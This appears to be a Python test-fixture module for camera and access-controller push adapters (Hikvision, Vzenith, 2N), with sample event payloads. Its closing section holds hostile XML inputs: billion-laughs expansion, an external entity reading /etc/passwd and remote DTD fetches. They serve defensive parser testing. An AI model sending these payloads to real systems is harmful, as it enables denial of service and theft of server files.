"""Fixture payloads of the HTTP-push adapters, each with the public source it follows.

The JPEG bytes are stand-ins (a JPEG's start and end markers around a few bytes): the
adapters pass pictures through, so their content only has to be recognisable and exact.
"""

from __future__ import annotations

import base64
from typing import Any

import orjson

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00plate-crop\xff\xd9"
JPEG_2 = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00whole-vehicle\xff\xd9"

# --- Hikvision access controller (ISAPI AccessControllerEvent, JSON) -----------------------
# Source: the real HTTP-listener push of a DS-K1T502DBFWX-C quoted in
# pergolafabio/Hikvision-Addons#177 (major 5 / sub 21, serialNo 257, dateTime with offset),
# with the fields the ecosystem notes list for the document (macAddress at the top level;
# cardNo, cardType, employeeNoString, name, cardReaderNo, userType, currentVerifyMode in
# AccessControllerEvent). Other (major, minor) pairs: the HCNetSDK macros as ported in
# pergolafabio/Hikvision-Addons hikvision-doorbell/src/sdk/acsalarminfo.py.
HIK_MAC = "bc:5e:33:62:2a:5c"
HIK_LOCK_OPEN: dict[str, Any] = {
    "ipAddress": "192.168.1.64",
    "portNo": 80,
    "protocol": "HTTP",
    "macAddress": "bc:5e:33:62:2a:5c",
    "dateTime": "2024-08-26T12:32:28+01:00",
    "activePostCount": 1,
    "eventType": "AccessControllerEvent",
    "eventState": "active",
    "eventDescription": "Access Controller Event",
    "AccessControllerEvent": {
        "deviceName": "DS-K1T502DBFWX-C",
        "majorEventType": 5,
        "subEventType": 21,
        "reportChannel": 5,
        "cardReaderKind": 1,
        "doorNo": 1,
        "serialNo": 257,
        "currentEvent": True,
        "frontSerialNo": 256,
        "hasRecord": False,
    },
}


def hik_push(major: int, minor: int, serial: int = 258, **fields: Any) -> dict[str, Any]:
    """The #177 push with another code pair, serial number and access fields."""
    event = {
        **HIK_LOCK_OPEN["AccessControllerEvent"],
        "majorEventType": major,
        "subEventType": minor,
        "serialNo": serial,
        "frontSerialNo": serial - 1,
        **fields,
    }
    return {**HIK_LOCK_OPEN, "AccessControllerEvent": event}


PERSON = {
    "cardNo": "3728410153",
    "cardType": 1,
    "employeeNoString": "1021",
    "name": "B3-1201",
    "cardReaderNo": 1,
    "userType": "normal",
    "currentVerifyMode": "cardOrFaceOrFp",
}
HIK_CARD_PASS = hik_push(5, 0x01, 300, **PERSON)  # LEGAL_CARD_PASS
HIK_FACE_PASS = hik_push(5, 0x4B, 301, **{**PERSON, "cardNo": ""})  # FACE_VERIFY_PASS
HIK_FINGERPRINT_PASS = hik_push(5, 0x26, 302, **{**PERSON, "cardNo": ""})
HIK_CARD_UNKNOWN = hik_push(5, 0x09, 303, cardNo="99887766", cardReaderNo=1)  # INVALID_CARD
HIK_CARD_NO_RIGHT = hik_push(5, 0x06, 304, **PERSON)  # CARD_NO_RIGHT
HIK_CARD_EXPIRED = hik_push(5, 0x08, 305, **PERSON)  # CARD_OUT_OF_DATE
HIK_DOOR_OPEN = hik_push(5, 0x19, 306)  # DOOR_OPEN_NORMAL
HIK_DOOR_CLOSE = hik_push(5, 0x1A, 307)  # DOOR_CLOSE_NORMAL
HIK_DOOR_FORCED = hik_push(5, 0x1B, 308)  # DOOR_OPEN_ABNORMAL
HIK_DOOR_HELD = hik_push(5, 0x1C, 309)  # DOOR_OPEN_TIMEOUT
HIK_EXIT_BUTTON = hik_push(5, 0x17, 310)  # DOOR_BUTTON_PRESS
HIK_REMOTE_OPEN = hik_push(3, 0x400, 311)  # REMOTE_OPEN_DOOR
HIK_TAMPER = hik_push(1, 0x404, 312)  # HOST_DESMANTLE_ALARM
HIK_DURESS = hik_push(1, 0x40A, 313, **PERSON)  # STRESS_ALARM
HIK_UNMAPPED = hik_push(5, 0x13, 314)  # ALWAYS_OPEN_BEGIN: not in the table
# A heartbeat: same listener, no AccessControllerEvent (eventType as Hikvision names it).
HIK_HEARTBEAT = {k: v for k, v in HIK_LOCK_OPEN.items() if k != "AccessControllerEvent"} | {
    "eventType": "heartBeat",
    "eventDescription": "heartBeat",
}


def hik_multipart(document: dict[str, Any], boundary: str = "MIME_boundary") -> bytes:
    """The push as face terminals send it: the JSON part, then the face snapshot."""
    b = boundary.encode()
    return (
        b"--" + b + b"\r\n"
        b'Content-Disposition: form-data; name="AccessControllerEvent"\r\n'
        b"Content-Type: application/json\r\n\r\n" + orjson.dumps(document) + b"\r\n"
        b"--" + b + b"\r\n"
        b'Content-Disposition: form-data; name="Picture"; filename="Picture.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + JPEG + b"\r\n"
        b"--" + b + b"--\r\n"
    )


# The AcsEvent search answer: the InfoList fields the ecosystem notes list (major, minor,
# time, cardNo, employeeNoString, name, doorNo, serialNo) in the AcsEvent object that public
# ISAPI clients read (searchID, responseStatusStrg, numOfMatches, totalMatches).
HIK_SEARCH_ANSWER: dict[str, Any] = {
    "AcsEvent": {
        "searchID": "gap-258-261",
        "responseStatusStrg": "MORE",
        "numOfMatches": 3,
        "totalMatches": 4,
        "InfoList": [
            {
                "major": 5,
                "minor": 1,
                "time": "2024-08-26T12:40:01+01:00",
                "cardNo": "3728410153",
                "employeeNoString": "1021",
                "name": "B3-1201",
                "doorNo": 1,
                "serialNo": 258,
            },
            {
                "major": 5,
                "minor": 25,
                "time": "2024-08-26T12:40:03+01:00",
                "doorNo": 1,
                "serialNo": 259,
            },
            {
                "major": 5,
                "minor": 27,
                "time": "2024-08-26T12:41:00+01:00",
                "doorNo": 1,
                "serialNo": 260,
            },
        ],
    }
}

# The ResponseStatus of an ISAPI PUT, as public clients and test doubles of the remote
# control read it (statusCode 1 OK; 4 "Invalid Operation" is ISAPI's refusal).
HIK_RESPONSE_OK = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<ResponseStatus version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema">\n'
    b"<requestURL>/ISAPI/AccessControl/RemoteControl/door/1</requestURL>\n"
    b"<statusCode>1</statusCode>\n<statusString>OK</statusString>\n"
    b"<subStatusCode>ok</subStatusCode>\n</ResponseStatus>"
)
HIK_RESPONSE_REFUSED = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<ResponseStatus version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema">\n'
    b"<requestURL>/ISAPI/AccessControl/RemoteControl/door/9</requestURL>\n"
    b"<statusCode>4</statusCode>\n<statusString>Invalid Operation</statusString>\n"
    b"<subStatusCode>invalidOperation</subStatusCode>\n</ResponseStatus>"
)

# --- Hikvision ANPR (XML) -------------------------------------------------------------------
# Source: maciej-or/hikvision_next
# tests/fixtures/ISAPI/EventNotificationAlert/ipc1_anpr_plate_detected.xml (a real camera),
# abridged to the elements the adapter reads and a few it does not (GPS omitted).
ANPR_DETECTED = b"""<?xml version="1.0" encoding="UTF-8"?>
<EventNotificationAlert version="2.0"
  xmlns="http://www.hikvision.com/ver20/XMLSchema">
  <ipAddress>10.2.124.188</ipAddress>
  <portNo>8123</portNo>
  <protocol>HTTP</protocol>
  <macAddress>bc:5e:33:62:2a:5c</macAddress>
  <channelID>1</channelID>
  <dateTime>2023-08-11T13:49:00+01:00</dateTime>
  <activePostCount>1</activePostCount>
  <eventType>ANPR</eventType>
  <eventState>active</eventState>
  <eventDescription>ANPR</eventDescription>
  <channelName>Camera 01</channelName>
  <ANPR>
    <country>5</country>
    <licensePlate>KH35192</licensePlate>
    <line>1</line>
    <direction>forward</direction>
    <confidenceLevel>100</confidenceLevel>
    <plateType>unknown</plateType>
    <plateColor>unknown</plateColor>
    <plateCharBelieve>99,99,99,99,99,99,99</plateCharBelieve>
    <vehicleType>vehicle</vehicleType>
    <vehicleInfo>
      <index>39</index>
      <colorDepth>2</colorDepth>
      <color>white</color>
    </vehicleInfo>
    <pictureInfoList>
      <pictureInfo>
        <fileName>licensePlatePicture.jpg</fileName>
        <type>licensePlatePicture</type>
        <absTime>20230811134900555</absTime>
      </pictureInfo>
      <pictureInfo>
        <fileName>vehiclePicture.jpg</fileName>
        <type>vehiclePicture</type>
        <absTime>20230811134900555</absTime>
      </pictureInfo>
    </pictureInfoList>
    <originalLicensePlate>KH35192</originalLicensePlate>
    <vehicleListName>otherList</vehicleListName>
  </ANPR>
  <UUID>20230811134901822007gWpiNIuI14ikdwfKR5eDCzuV45RubEmi88qaD5w0YTq</UUID>
  <picNum>2</picNum>
  <isDataRetransmission>false</isDataRetransmission>
</EventNotificationAlert>"""

# Source: maciej-or/hikvision_next
# tests/fixtures/ISAPI/EventNotificationAlert/ipc1_anpr_plate_unknown.xml (a real camera:
# licensePlate "unknown", confidence 0, an SUV read in reverse here to exercise the exit).
ANPR_UNKNOWN = b"""<?xml version="1.0" encoding="UTF-8"?>
<EventNotificationAlert version="2.0"
  xmlns="http://www.hikvision.com/ver20/XMLSchema">
  <ipAddress>10.2.124.188</ipAddress>
  <macAddress>bc:5e:33:62:2a:5c</macAddress>
  <channelID>1</channelID>
  <dateTime>2023-08-11T14:02:35+01:00</dateTime>
  <eventType>ANPR</eventType>
  <eventState>active</eventState>
  <ANPR>
    <country>0</country>
    <licensePlate>unknown</licensePlate>
    <line>1</line>
    <direction>reverse</direction>
    <confidenceLevel>0</confidenceLevel>
    <plateColor>unknown</plateColor>
    <plateCharBelieve></plateCharBelieve>
    <vehicleType>SUVMPV</vehicleType>
    <vehicleInfo><color>white</color></vehicleInfo>
    <originalLicensePlate>unknown</originalLicensePlate>
    <vehicleListName>otherList</vehicleListName>
  </ANPR>
  <UUID>2023081114023615800vefGxfobg2fpWcnGtTmw4kkii7gsXTdT58WIAeZZkGfh</UUID>
  <isDataRetransmission>false</isDataRetransmission>
</EventNotificationAlert>"""

# The camera's heartbeat on the same alarm host: a videoloss alert in state inactive, as a
# camera's alertStream shows it in home-assistant/core#82767.
ANPR_HEARTBEAT = b"""<EventNotificationAlert version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema">
<ipAddress>192.168.20.88</ipAddress><portNo>80</portNo><protocolType>HTTP</protocolType>
<macAddress>c0:6d:ed:02:d3:d9</macAddress><dynChannelID/><channelID/>
<dateTime>2022-12-11T15:30:20+09:30</dateTime><activePostCount>0</activePostCount>
<eventType>videoloss</eventType><eventState>inactive</eventState>
<eventDescription>videoloss alarm</eventDescription></EventNotificationAlert>"""


def anpr_multipart(xml: bytes, boundary: str = "boundary") -> bytes:
    """The read as an ANPR camera posts it: the XML part, then the plate and vehicle
    pictures named as in the alert's pictureInfoList."""
    b = boundary.encode()
    return (
        b"--" + b + b"\r\n"
        b'Content-Disposition: form-data; name="anpr.xml"; filename="anpr.xml"\r\n'
        b"Content-Type: text/xml\r\n\r\n" + xml + b"\r\n"
        b"--" + b + b"\r\n"
        b'Content-Disposition: form-data; name="licensePlatePicture.jpg"; '
        b'filename="licensePlatePicture.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + JPEG + b"\r\n"
        b"--" + b + b"\r\n"
        b'Content-Disposition: form-data; name="vehiclePicture.jpg"; '
        b'filename="vehiclePicture.jpg"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + JPEG_2 + b"\r\n"
        b"--" + b + b"--\r\n"
    )


# --- Vzenith AlarmInfoPlate (JSON) ----------------------------------------------------------
# Source: the field model of ayayacc/parkLine src/main/java/com/kl/parkLine/boyue/
# (AlarmInfoPlate.java: serialno, deviceName, ipaddr, result; PlateResult.java: license,
# colorType, confidence, triggerType, plateid, imageFile, imageFileLen, isoffline,
# timeStamp.Timeval.sec/usec) and the ecosystem notes (channel, direction, location.RECT);
# the plate is that of the public capture the notes cite (粤FQK883, an IVS camera).
VZ_SERIAL = "e2a5d4f1-77c0ab12"
VZ_PLATE: dict[str, Any] = {
    "AlarmInfoPlate": {
        "channel": 0,
        "deviceName": "IVS",
        "ipaddr": "192.168.1.100",
        "serialno": VZ_SERIAL,
        "result": {
            "PlateResult": {
                "license": "粤FQK883",
                "colorType": 1,
                "confidence": 97,
                "triggerType": 8,
                "plateid": 1843,
                "direction": 4,
                "isoffline": 0,
                "location": {"RECT": {"left": 862, "top": 557, "right": 1007, "bottom": 601}},
                "timeStamp": {"Timeval": {"sec": 1763700000, "usec": 123456}},
                "imageFile": base64.b64encode(JPEG_2).decode(),
                "imageFileLen": len(JPEG_2),
            }
        },
    }
}
VZ_NO_PLATE: dict[str, Any] = {
    "AlarmInfoPlate": {
        **VZ_PLATE["AlarmInfoPlate"],
        "result": {
            "PlateResult": {"license": "", "colorType": 0, "triggerType": 1, "plateid": 1844}
        },
    }
}
# BoyueHearBeat.java: the heartbeat carries the serial number alone.
VZ_HEARTBEAT: dict[str, Any] = {"serialno": VZ_SERIAL}

# --- 2N LPR (JSON) --------------------------------------------------------------------------
# Source: the request example of the 2N HTTP API manual, 5.16.1 api/lpr/licenseplate
# (lprUuid, lprID 143289, accessPoint, plateText ABC123456, plateImage base64), with lprDir.
LPR_2N_ENTRY: dict[str, Any] = {
    "lprUuid": "bc4baad9-d2cd-4706-986f-b942963bfa9f",
    "lprID": 143289,
    "accessPoint": 0,
    "plateText": "ABC123456",
    "plateImage": base64.b64encode(JPEG).decode(),
    "lprDir": 2,
}
LPR_2N_EXIT: dict[str, Any] = {
    "lprUuid": "0b1e6c64-4f1e-4b0c-9a51-2d0f6b1f9a77",
    "lprID": 143290,
    "accessPoint": 1,
    "plateText": "ABC123456",
    "plateImage": "",
    "lprDir": 3,
}

# --- hostile XML ----------------------------------------------------------------------------
# The classic entity attacks (OWASP XXE and billion laughs), shaped as ANPR alerts.
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<EventNotificationAlert><eventType>ANPR</eventType>
<ANPR><licensePlate>&lol9;</licensePlate></ANPR></EventNotificationAlert>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<EventNotificationAlert><eventType>ANPR</eventType>
<ANPR><licensePlate>&xxe;</licensePlate></ANPR></EventNotificationAlert>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
<EventNotificationAlert><eventType>ANPR</eventType></EventNotificationAlert>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE EventNotificationAlert SYSTEM "http://203.0.113.1/anpr.dtd">
<EventNotificationAlert><eventType>ANPR</eventType></EventNotificationAlert>"""
